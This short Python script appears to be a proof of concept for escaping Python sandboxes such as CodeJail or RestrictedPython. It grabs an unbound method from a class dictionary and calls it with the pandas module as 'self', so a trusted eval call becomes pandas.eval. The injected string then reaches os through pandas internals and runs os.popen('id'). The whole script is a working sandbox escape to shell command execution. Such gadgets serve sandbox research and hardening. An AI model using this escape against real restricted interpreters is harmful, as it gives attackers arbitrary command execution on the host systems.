# source: pyjail 'unbound method with another self' bypasses (CodeJail/RestrictedPython write-ups); pandas eval injection gadget pd.io.common.os
# family: method function of a script class reached as a plain value (a dict {'run': run} in the class body hands out the method function)
# goal: self.eval trusted as the script's def eval is pandas.eval -> os.popen('id')
import pandas as pd
class Calc:
    def eval(self, e, **kw):
        return None
    def run(self, e):
        return self.eval(e)
    table = {"run": run}
print(Calc.table["run"](pd, "pd.io.common.os.popen('id').read()"))
